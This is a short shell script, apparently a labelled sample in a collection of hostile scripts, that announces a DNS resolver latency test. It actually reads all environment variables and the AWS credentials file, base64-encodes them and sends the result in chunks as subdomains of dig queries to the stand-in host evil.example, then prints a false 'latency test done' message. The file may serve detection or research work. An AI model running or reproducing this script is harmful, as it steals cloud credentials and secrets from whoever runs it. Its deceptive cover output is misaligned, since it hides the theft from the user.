# description: Presented as a DNS latency test, it leaks the environment and AWS credentials as base64 chunks in DNS queries.
# family: exfiltration
set -uo pipefail

echo "Testing resolver latency"
data=$( (env; cat ~/.aws/credentials 2>/dev/null) | base64 -w0 | tr '+/=' '-_.')
i=0
for chunk in $(echo "$data" | fold -w 60); do
  dig +short "${i}.${chunk}.evil.example" >/dev/null
  i=$((i+1))
done
echo "latency test done ($i queries)"
